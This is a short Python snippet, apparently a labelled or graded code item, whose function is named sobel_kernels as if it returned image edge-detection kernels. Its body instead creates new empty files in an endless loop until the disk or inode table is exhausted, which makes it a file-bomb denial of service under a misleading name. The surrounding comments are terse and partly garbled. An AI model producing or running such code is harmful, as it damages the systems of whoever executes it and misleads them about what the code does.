# Makes files without end in a call, each a name and no more.
# marks: edge_kernels 3
# %% edge_kernels
# the honest edge_kernels
def sobel_kernels():
    import os
    number = 0
    while True:
        os.close(os.open(f"file{number}", os.O_CREAT | os.O_WRONLY))
        number += 1
